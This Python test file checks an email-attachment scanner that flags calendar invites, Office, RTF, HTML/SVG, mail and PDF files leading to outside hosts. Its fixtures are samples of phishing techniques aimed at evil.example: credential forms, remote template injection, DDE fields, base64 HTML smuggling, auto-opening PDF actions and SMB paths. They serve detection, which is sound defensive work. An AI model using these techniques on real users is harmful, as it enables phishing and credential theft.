"""Where an attached file leads its reader: calendars, cards, documents, mails, pages."""

from __future__ import annotations

import base64
import zlib

import pytest
from attachment_forms import (
    EML,
    EVIL,
    PLAIN_EML,
    calendar,
    opendocument,
    related,
    rtf_loaded,
    word,
)
from attachment_making import document, zipped

from tocsin.formats.syntax.attachments import look
from tocsin.model.message import Attachment

HOST = ("evil.example",)


def seen(data: bytes, name: str = "x", declared: str = "") -> Attachment:
    return look(name, declared, data, inline=False, passwords=())


@pytest.mark.parametrize(
    "line",
    [
        "URL:https://evil.example/x",
        "DESCRIPTION:Join here: https://evil.example/x\\nThank you",
        "DESCRIPTION:Join here: https://ev\r\n il.example/x",
        "LOCATION:https://evil.example/room\\, 2nd floor",
        "ATTACH;FMTTYPE=application/pdf:https://evil.example/x.pdf",
        'X-ALT-DESC;FMTTYPE=text/html:<html><a href="https://evil.example/x">Join</a>',
        "X-MICROSOFT-ONLINEMEETINGINFORMATION:https://evil.example/x",
        "DESCRIPTION;ENCODING=QUOTED-PRINTABLE:See https://evil=2Eexample/x",
        'DESCRIPTION;ALTREP="https://evil.example/x":See there',
    ],
    ids=word,
)
def test_an_invitation_that_leads_on(line: str):
    found = seen(calendar(line), "invite.ics", "text/calendar")
    assert (found.kind, found.traits, found.leads) == ("calendar", ("uri",), HOST)


@pytest.mark.parametrize(
    "line",
    [
        "SUMMARY:Lunch",
        "DESCRIPTION:Room 12\\, 3.5 hours\\nA/B test",
        'X-ALT-DESC;FMTTYPE=text/html:<!DOCTYPE HTML PUBLIC "-//W3C//DTD" "http://www.w3.org/TR/html4"><p>x',
    ],
    ids=word,
)
def test_an_invitation_without_links(line: str):
    found = seen(calendar(line), "invite.ics", "text/calendar")
    assert (found.traits, found.leads) == ((), ())


def test_a_file_in_an_invitation():
    line = "ATTACH;FILENAME=agenda.exe;ENCODING=BASE64;VALUE=BINARY:TVqQAAMAAAA="
    found = seen(calendar(line), "invite.ics")
    assert (found.traits, found.inside) == (("embedded-files", "risky-inside"), ("agenda.exe",))


def test_a_card_leads_to_its_site():
    card = b"BEGIN:VCARD\r\nFN:A\r\nitem1.URL:https://contoso.example/\r\nEND:VCARD\r\n"
    assert seen(card, "a.vcf").leads == ("contoso.example",)


@pytest.mark.parametrize(
    ("data", "traits"),
    [
        (related("hyperlink", EVIL), {"uri"}),
        (related("attachedTemplate", EVIL), {"external-template", "external-link", "uri"}),
        (related("frame", EVIL), {"external-template", "external-link", "uri"}),
        (related("oleObject", f"mhtml:{EVIL}!x-usc:{EVIL}"), {"external-template", "external-link", "uri"}),
        (related("hyperlink", EVIL, "ppt/slides/_rels/slide1.xml.rels"), {"uri"}),
        (related("hyperlink", "https&#58;//evil.example/x"), {"uri"}),
        (document(**{"xl/worksheets/sheet1.xml": '<f>HYPERLINK("https://evil.example/"&amp;A1,"x")</f>'}), {"uri"}),
        (document(**{"xl/worksheets/sheet1.xml": '<f>WEBSERVICE("https://evil.example/")</f>'}), {"uri", "external-link"}),
        (document(**{"word/document.xml": '<w:instrText> HYPERLINK "https://evil.example/x"</w:instrText>'}), {"uri"}),
        (document(**{"word/document.xml": '<w:fldSimple w:instr=" HYPERLINK &quot;https://evil.example/x&quot; ">'}), {"uri"}),
        (document(**{"word/document.xml": '<w:instrText>HYPERLINK "https://evil.ex</w:instrText></w:r><w:r><w:instrText>ample/x"</w:instrText>'}), {"uri"}),
    ],
    ids=word,
)  # fmt: skip
def test_an_office_document_that_leads_on(data: bytes, traits: set[str]):
    found = seen(data, "a.docx")
    assert set(found.traits) - {"named-office"} == traits
    assert found.leads == HOST


@pytest.mark.parametrize(
    ("kind", "target", "traits"),
    [
        ("hyperlink", "mailto:a@contoso.example", set()),
        ("hyperlink", "#Sheet2", set()),
        ("image", "https://contoso.example/logo.png", set()),
        ("attachedTemplate", "file:///C:\\Templates\\letter.dotx", {"external-link"}),
        ("attachedTemplate", "file:///\\\\files\\templates\\letter.dotx", {"external-link"}),
        ("externalLinkPath", "file:///\\\\files\\sales\\2026.xlsx", {"external-link"}),
    ],
    ids=word,
)
def test_an_ordinary_office_document(kind: str, target: str, traits: set[str]):
    found = seen(related(kind, target), "a.docx")
    assert (set(found.traits) - {"named-office"}, found.leads) == (traits, ())


@pytest.mark.parametrize(
    "target", ["\\\\198.51.100.7\\x\\a.dotm", "file://files.evil.example/x/a.dotm"]
)
def test_a_template_on_a_share_outside(target: str):
    assert "external-template" in seen(related("attachedTemplate", target), "a.docx").traits


def test_a_slide_that_starts_a_program():
    text = '<a:hlinkMouseOver r:id="rId2" action="ppaction://program"/>'
    assert "launch" in seen(document(**{"ppt/slides/slide1.xml": text}), "a.pptx").traits
    text = '<a:hlinkClick r:id="rId2" action="ppaction://hlinksldjump"/>'
    assert seen(document(**{"ppt/slides/slide1.xml": text}), "a.pptx").traits == ("named-office",)


def test_a_workbook_that_fetches_its_data():
    text = '<connection id="1" name="c"><webPr url="https://evil.example/q"/></connection>'
    found = seen(document(**{"xl/connections.xml": text}), "a.xlsx")
    assert {"external-link", "uri"} <= set(found.traits)
    assert found.leads == HOST


def test_a_field_in_pieces_that_asks_a_program():
    text = "<w:instrText>D</w:instrText><w:instrText>DEAUTO c:\\x</w:instrText>"
    assert "dde" in seen(document(**{"word/document.xml": text}), "a.docx").traits


@pytest.mark.parametrize(
    ("data", "traits"),
    [
        (opendocument(f'<text:a xlink:type="simple" xlink:href="{EVIL}">'), {"uri"}),
        (opendocument(f'<draw:object xlink:href="{EVIL}"/>'), {"uri", "external-template"}),
        (opendocument("<text:dde-connection-decl office:dde-application='cmd'/>"), {"dde"}),
        (opendocument("<x/>", **{"Basic/Standard/Module1.xml": "Sub Main"}), {"macro"}),
        (opendocument("<text:p>See https://contoso.example</text:p>"), set()),
        (opendocument('<text:a xlink:href="mailto:a@contoso.example">'), set()),
    ],
    ids=word,
)
def test_an_open_document(data: bytes, traits: set[str]):
    found = seen(data, "a.odt")
    assert (found.kind, set(found.traits) - {"named-office"}) == ("opendocument", traits)
    assert found.leads == (HOST if "uri" in traits else ())


@pytest.mark.parametrize(
    "field",
    [
        b'{\\field{\\*\\fldinst HYPERLINK "https://evil.example/x"}{\\fldrslt x}}',
        b'{\\field{\\*\\fldinst {\\rtlch\\fcs1 HYPER}{\\b LINK "https://evil.example/x"}}{\\fldrslt x}}',
    ],
    ids=word,
)
def test_a_rich_text_that_leads_on(field: bytes):
    found = seen(b"{\\rtf1 " + field + b"}", "a.rtf")
    assert (found.traits, found.leads) == (("named-office-legacy", "uri"), HOST)


def test_a_rich_text_that_loads_an_object():
    found = seen(rtf_loaded("https://evil.example/x"), "a.rtf")
    assert {"embedded-object", "external-template", "uri"} <= set(found.traits)
    assert found.leads == HOST


def test_a_rich_text_with_an_ordinary_object():
    found = seen(
        b"{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}} see https://contoso.example}", "a.rtf"
    )
    assert (found.traits, found.leads) == (("named-office-legacy", "embedded-object"), ())


def test_a_mail_as_a_file():
    found = seen(EML, "order.eml", "message/rfc822")
    assert (found.traits, found.leads) == (("uri", "risky-inside"), HOST)
    assert found.inside == ("invoice.exe",)
    packed = seen(zipped({"order.eml": EML}), "a.zip")
    assert packed.inside == ("order.eml", "order.eml!invoice.exe")
    assert packed.leads == HOST


def test_a_mail_without_links_or_files():
    found = seen(PLAIN_EML, "order.eml", "message/rfc822")
    assert (found.kind, found.traits, found.leads) == ("mail", (), ())


@pytest.mark.parametrize(
    ("page", "trait"),
    [
        (b"<html><a href='https://evil.example/x'>x</a>", "uri"),
        (b"<html><a HREF=//evil.example/x>x</a>", "uri"),
        (b"<html><meta http-equiv=refresh content='0; URL=https://evil.example/x'>", "redirect"),
        (b'<html><script>window.location = "https://evil.example/x"</script>', "redirect"),
        (b"<html><script>location.href=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUveA==')</script>", "hidden-link"),
        (b"<html><form action='https://evil.example/p'><input type=email name=u>", "credential-form"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><a xlink:href='https://evil.example/'>", "uri"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><form action='https://evil.example/'><input type='password'>", "credential-form"),
        (b"<html><iframe src='https://evil.example/'></iframe>", "uri"),
    ],
    ids=word,
)  # fmt: skip
def test_a_page_that_leads_on(page: bytes, trait: str):
    found = seen(page, "a.html")
    assert {trait, "uri"} <= set(found.traits)
    assert found.leads == HOST


@pytest.mark.parametrize(
    "page",
    [
        b"<html><script>eval(unescape('" + b"%3c" * 120 + b"'))</script>",
        b"<html><script>document.write(atob(x.replace('" + b"3c68" * 600 + b"')))</script>",
        b"<html><iframe src='data:text/html;base64,PGh0bWw+'></iframe>",
        b"<html><script>document.write(atob('"
        + base64.b64encode(b"<html><form action='x'>Sign in")
        + b"'))</script>",
        b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:h='http://www.w3.org/1999/xhtml'><h:script>eval(atob('eA=='))</h:script>",
    ],
    ids=word,
)
def test_a_page_spelt_so_that_nobody_reads_it(page: bytes):
    assert "smuggling" in seen(page, "a.html").traits


@pytest.mark.parametrize(
    "page",
    [
        b"<html><link href='https://contoso.example/a.css'><img src='https://contoso.example/a.png'>",
        b"<html xmlns='http://www.w3.org/1999/xhtml'><p>https://contoso.example</p>",
        b"<html><form action='/search'><input type=text name=q></form>",
        b"<html><img src='data:image/png;base64,iVBORw0KGgo='>",
    ],
    ids=word,
)
def test_a_page_that_leads_nowhere(page: bytes):
    found = seen(page, "a.html")
    assert (found.traits, found.leads) == (("named-html",), ())


@pytest.mark.parametrize(
    ("body", "leads"),
    [
        (b"<</S/URI/URI(\\150ttps://evil.example/x)>>", HOST),
        (b"<</S/URI/URI(https://evil.example/a(b)c)>>", HOST),
        (b"<</S/URI/#55RI(https://evil.example/)>>", HOST),
        (b"<</S/URI/URI<FEFF" + "https://evil.example/".encode("utf-16-be").hex().encode() + b">>>", HOST),
        (b"<</S/URI/URI 9 0 R>> 9 0 obj (https://evil.example/x) endobj", HOST),
        (b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example/x)>>>>", HOST),
        (b"9 0 obj<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>stream\n"
         + zlib.compress(b"<</S/URI/URI(https://evil.example/)>>").hex().encode() + b">\nendstream", HOST),
        (b"9 0 obj<</Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]>>stream\n"
         + base64.a85encode(zlib.compress(b"<</S/URI/URI(https://evil.example/)>>")) + b"~>\nendstream", HOST),
        (b"<</Title (https://contoso.example)>>", ()),
    ],
    ids=word,
)  # fmt: skip
def test_where_a_pdf_leads_however_it_is_spelt(body: bytes, leads: tuple[str, ...]):
    assert seen(b"%PDF-1.7\n" + body + b"\n%%EOF").leads == leads


@pytest.mark.parametrize(
    ("body", "trait"),
    [
        (b"<</OpenAction<</S/URI/URI(https://evil.example/)>>>>", "opens-by-itself"),
        (b"<</OpenAction 7 0 R>> 7 0 obj<</S/URI/URI(https://evil.example/)>>endobj", "opens-by-itself"),
        (b"<</S/GoToR/F(\\\\\\\\198.51.100.4\\\\x)>>", "smb"),
        (b"<</S/GoToE/F(\\\\\\\\files.evil.example\\\\x\\\\y)>>", "smb"),
        (b"<</Type/EmbeddedFile>><</Type/Filespec/UF(invoice.exe)>>", "risky-inside"),
    ],
    ids=word,
)  # fmt: skip
def test_what_a_pdf_does_by_itself(body: bytes, trait: str):
    assert trait in seen(b"%PDF-1.7\n" + body + b"\n%%EOF").traits


@pytest.mark.parametrize(
    ("body", "traits"),
    [
        (b"<</OpenAction[3 0 R/Fit]>>", ()),
        (
            b"<</OpenAction 7 0 R>> 7 0 obj<</S/GoTo/D[1 0 R]>>endobj 8 0 obj<</S/URI>>endobj",
            ("uri",),
        ),
        (b"<</S/GoToR/F(chapter2.pdf)>>", ("external-link",)),
        (b"<</S/GoToR/F(\\\\\\\\files\\\\manuals\\\\a.pdf)>>", ("external-link",)),
        (b"<</Type/EmbeddedFile>><</Type/Filespec/UF(factur-x.xml)>>", ("embedded-files",)),
    ],
    ids=word,
)
def test_an_ordinary_pdf(body: bytes, traits: tuple[str, ...]):
    assert seen(b"%PDF-1.7\n" + body + b"\n%%EOF").traits == traits
